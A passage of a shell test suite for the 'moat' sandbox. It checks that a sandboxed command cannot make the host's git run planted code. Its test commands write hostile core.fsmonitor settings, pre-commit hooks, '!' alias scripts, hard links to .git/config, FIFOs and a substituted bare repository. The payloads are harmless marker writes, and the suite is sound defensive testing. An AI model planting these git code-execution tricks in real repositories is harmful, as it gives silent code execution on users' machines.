is "$(fsw "$REPORTS/19h.json")" missing \
	"19: the repository's HEAD made a hard link of another of its files (a rewrite of that one breaks it later): pub.git.git beside it counts"
rm -rf "$S/pub.git.git" "$S/pub.git/EDITMSG"
M "$S" "$REPORTS/19m.json" --write . -- /bin/sh -c "git clone -q --mirror pub.git pub.git.git" >/dev/null 2>&1
is "$(fsw "$REPORTS/19m.json")" enforced "19 control: the same made beside the sound bare repository is ordinary work"
rm -rf "$S/pub.git.git"
M "$S" "$REPORTS/19n.json" --write . -- /bin/sh -c "mkdir -p other && echo ok > other/x" >/dev/null 2>&1
is "$(fsw "$REPORTS/19n.json")" enforced "19 control: a run that makes neither is enforced"

# --- 20. a protected file with another hard link -----------------------------------
R=$BASE/p20
new_repo "$R"
ln "$R/.git/config" "$R/.git-config.bak"
M "$R" "$REPORTS/20.json" --write . -- /bin/sh -c "printf '$FSMON' >> .git-config.bak" >/dev/null 2>&1
like "$(fsw "$REPORTS/20.json"): $(json_get "$REPORTS/20.json" '["properties"]["fs.write"]["reason"]' 2>/dev/null)/$(host_git "$R")" \
	"^missing: $R/\.git/config has another hard link.*/ran$" \
	"20: .git/config with another hard link in the grant: written through it, and fs.write said missing before the run"
rm -f "$R/.git-config.bak"
new_repo "$R"
M "$R" "$REPORTS/20c.json" --write . -- /bin/true
is "$(fsw "$REPORTS/20c.json")" enforced "20 control: without the other link, fs.write is enforced"

# --- 21. git's admin directories held entry by entry --------------------------------
# .git/worktrees/ID and .git/modules/NAME keep what makes git run code
# (commondir, config, hooks), and git works in them: a commit in a linked
# work tree or a submodule writes its index there.
R=$BASE/p21
new_repo "$R"
git -C "$R" worktree add -q "$R/.worktrees/a" 2>/dev/null
git -C "$R" -c protocol.file.allow=always submodule -q add "$BASE/lib" lib && git -C "$R" commit -q -m sub
GC="git -c user.name=t -c user.email=t@t"
out=$(M "$R" "$REPORTS/21.json" --write . -- /bin/sh -c \
	"cd .worktrees/a && echo a > a.txt && git add a.txt && $GC commit -q -m wt && cd ../.. &&
	 git worktree add -q .worktrees/b 2>/dev/null && cd lib && $GC commit -q --allow-empty -m sm && cd .. && echo git-ok;
	 echo /elsewhere > .git/worktrees/a/commondir 2>/dev/null || echo held" 2>&1)
is "$(echo $out)/$(git -C "$R/.worktrees/a" log -1 --format=%s)/$(fsw "$REPORTS/21.json")" "git-ok held/wt/enforced" \
	"21: a commit in a linked work tree and in a submodule, and a second work tree, work inside; the work tree's commondir stays held"
M "$R" "$REPORTS/21c.json" --write . --unprotect .git/worktrees -- /bin/sh -c \
	"cp .git/worktrees/a/commondir c.keep; echo /elsewhere > .git/worktrees/a/commondir" >/dev/null 2>&1
is "$(cat "$R/.git/worktrees/a/commondir")" /elsewhere "21 control: lifted, the commondir is rewritten"
cp "$R/c.keep" "$R/.git/worktrees/a/commondir"

# --- 22. submodules anywhere in the admin directories -----------------------------
# A submodule whose name has a part starting with '.' (.tmux/plugins/tpm),
# one six parts deep, one checked out in a linked work tree (its git
# directory under .git/worktrees/ID/modules), and a relative
# core.hooksPath in a submodule (taken in the submodule's work tree).
R=$BASE/p22
new_repo "$R"
SUBADD="git -c protocol.file.allow=always -C $R submodule -q add $BASE/lib"
$SUBADD .tmux/plugins/tpm && $SUBADD v/b/c/d/e/f && $SUBADD libs/sub && git -C "$R" commit -q -m subs
git -C "$R/libs/sub" config core.hooksPath .githooks
git -C "$R" worktree add -q "$BASE/p22-wt" 2>/dev/null
git -C "$BASE/p22-wt" -c protocol.file.allow=always submodule -q update --init libs/sub 2>/dev/null
wtsub=$(git -C "$BASE/p22-wt/libs/sub" rev-parse --absolute-git-dir)
PLANT22="printf '$FSMON' >> .git/modules/.tmux/plugins/tpm/config; printf '$FSMON' >> .git/modules/v/b/c/d/e/f/config;
	printf '$FSMON' >> ${wtsub#$R/}/config; mkdir -p libs/sub/.githooks &&
	printf '#!/bin/sh\necho ran > $PWNED\n' > libs/sub/.githooks/pre-commit && chmod +x libs/sub/.githooks/pre-commit"
git22() { # the host's git status in each, and a commit in libs/sub
	local out=
	for d in .tmux/plugins/tpm v/b/c/d/e/f; do out="$out$(host_git "$R/$d")/"; done
	out="$out$(host_git "$BASE/p22-wt/libs/sub")/$(host_git "$R/libs/sub")"
	echo "$out"
}
M "$R" "$REPORTS/22.json" --write . -- /bin/sh -c "$PLANT22" >/dev/null 2>&1
is "$(git22)/$(fsw "$REPORTS/22.json")" "////enforced" \
	"22: submodules named .tmux/..., six parts deep, of a linked work tree, and a submodule's relative core.hooksPath: all held"
M "$R" "$REPORTS/22c.json" --write . --unprotect .git/modules --unprotect .git/worktrees --unprotect libs/sub/.githooks -- \
	/bin/sh -c "$PLANT22" >/dev/null 2>&1
is "$(git22)" "ran/ran/ran/ran" "22 control: lifted, each makes the host's git run the command's code"

# --- 23. programs the repository's config names in the work tree -----------------
R=$BASE/p23
new_repo "$R"
mkdir -p "$R/tools" && printf '#!/bin/sh\nexit 1\n' >"$R/tools/fsm" && chmod +x "$R/tools/fsm"
git -C "$R" config core.fsmonitor tools/fsm
git -C "$R" config alias.st '!sh tools/st.sh'
PLANT23="printf '#!/bin/sh\necho ran > $PWNED\nexit 1\n' > tools/fsm; printf 'echo ran > $PWNED\n' > tools/st.sh"
st23() { rm -f "$PWNED"; (cd "$R" && git st >/dev/null 2>&1); cat "$PWNED" 2>/dev/null; }
M "$R" "$REPORTS/23.json" --write . -- /bin/sh -c "$PLANT23" >/dev/null 2>&1
is "$(host_git "$R")/$(st23)/$( [ -e "$R/tools/st.sh" ] && echo left)/$(fsw "$REPORTS/23.json")" "///missing" \
	"23: core.fsmonitor's program in the work tree stays read-only; a '!' alias's absent script made during the run is removed, and reported"
M "$R" "$REPORTS/23c.json" --write . --unprotect tools -- /bin/sh -c "$PLANT23" >/dev/null 2>&1
is "$(host_git "$R")/$(st23)" "ran/ran" "23 control: lifted, the host's git status and alias run what the command wrote"
git -C "$R" config --unset core.fsmonitor
M "$R" "$REPORTS/23f.json" --write . -- /bin/sh -c 'mkfifo .git/commondir' >/dev/null 2>&1
is "$( [ -e "$R/.git/commondir" ] && echo left)/$(fsw "$REPORTS/23f.json")/$(cd "$R" && timeout 10 git status >/dev/null 2>&1; echo $?)" \
	"/missing/0" "23: a FIFO made at a watched name is removed too (left, it would hang the host's git)"
# A program in a directory not made yet (core.fsmonitor = scripts/git/fsm
# before scripts/ is) was neither held nor watched: the command made it,
# the report said fs.write enforced, and the host's next git status ran it.
git -C "$R" config core.fsmonitor scripts/git/fsm
PLANT23D="mkdir -p scripts/git && printf '#!/bin/sh\necho ran > $PWNED\nexit 1\n' > scripts/git/fsm && chmod +x scripts/git/fsm"
for lim in "" "userns=0,root=0"; do
	rm -rf "$R/scripts"
	(export MOAT_HOST_LIMIT=$lim && M "$R" "$REPORTS/23d.json" --write . -- /bin/sh -c "$PLANT23D") >/dev/null 2>&1
	is "$( [ -e "$R/scripts/git/fsm" ] && echo left)/$(fsw "$REPORTS/23d.json")/$(host_git "$R")" "/missing/" \
		"23: core.fsmonitor's program in a directory not made yet: made during the run, removed after it, reported${lim:+ (without namespaces)}"
done
like "$(tail -n 5 "$SCRATCH/all.err")" "scripts/git/fsm was made during the run .*: moved aside to fsm\.moat-set-aside-" \
	"23:   and moat says so"
is "$(find "$R/scripts/git" -name 'fsm.moat-set-aside-*' -perm /0111 | wc -l)/$(find "$R/scripts/git" -name 'fsm.moat-set-aside-*' | wc -l)" \
	"0/1" "23:   the program is kept beside its name, not executable"
rm -rf "$R/scripts"
M "$R" "$REPORTS/23dc.json" --write . --unprotect scripts/git/fsm -- /bin/sh -c "$PLANT23D" >/dev/null 2>&1
is "$(host_git "$R")" "ran" "23 control: lifted, the host's git status runs the program the command made"
git -C "$R" config --unset core.fsmonitor
rm -rf "$R/scripts"
# Without a mount namespace the command can rename a repository X away
# and make a bare one at X, with its own config: X/HEAD, watched, was
# unlinked from the old X (which had none) while moat said "removed", and
# git in X ran the new config's fsmonitor.
S=$BASE/s23e
rm -rf "$S" && mkdir -p "$S" && new_repo "$S/X"
PLANT23E="mv X X_old && mkdir -p X/objects X/refs && echo 'ref: refs/heads/main' >X/HEAD && printf '[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = \"echo ran >$PWNED; false\"\n' >X/config"
(export MOAT_HOST_LIMIT=userns=0,root=0 && M "$S" "$REPORTS/23e.json" --write . -- /bin/sh -c "$PLANT23E") >/dev/null 2>&1
is "$( [ -e "$S/X/HEAD" ] && echo left)/$(fsw "$REPORTS/23e.json")/$(host_git "$S/X")" "/missing/" \
	"23: without namespaces, X renamed away and a bare repository made at X: its HEAD removed, as said; the host's git runs nothing"

# --- 14. a grant root or project this uid cannot look in -------------------------
S=$BASE/s14
rm -rf "$S" && mkdir -p "$S"
new_repo "$S/proj"
if [ "$(id -u)" != 0 ]; then
	chmod 0300 "$S"
	out=$(cd "$S" && env HOME="$HOMED" "$MOAT" run --backend native --profile strict --write . -- /bin/true 2>&1)
	rc=$?
	chmod 0755 "$S"
	like "$rc: $(printf '%s' "$out" | tr '\n' ' ')" "^125: .*$S: moat cannot look in it for a repository.*hint: chmod u\+rx $S" \
		"14: a grant root this uid may not list (it could chmod it back) is refused, with the fix"
	chmod 0644 "$S/proj"
	out=$(cd "$S" && env HOME="$HOMED" "$MOAT" run --backend native --profile strict --write . --report-fd 3 -- \
		/bin/sh -c 'chmod 755 proj 2>/dev/null || echo held; echo ok > x' 3>"$REPORTS/14.json" 2>&1)
	chmod 0755 "$S/proj"
	is "$out/$(cat "$S/x" 2>/dev/null)/$(fsw "$REPORTS/14.json")" "held/ok/enforced" \
		"14: a project folder of its own it may not search (mode 644) is held read-only whole: the command cannot chmod it back"
	out=$(cd "$S" && env HOME="$HOMED" "$MOAT" run --backend native --profile strict --write . -- /bin/echo ran 2>&1)
	is "$out" ran "14 control: readable again, the same run starts"
else
	skip "14: root may look in every directory: runs as uid 65534 in the suite's unprivileged lane"
	skip "14: runs as uid 65534"
	skip "14: runs as uid 65534"
fi

done_testing
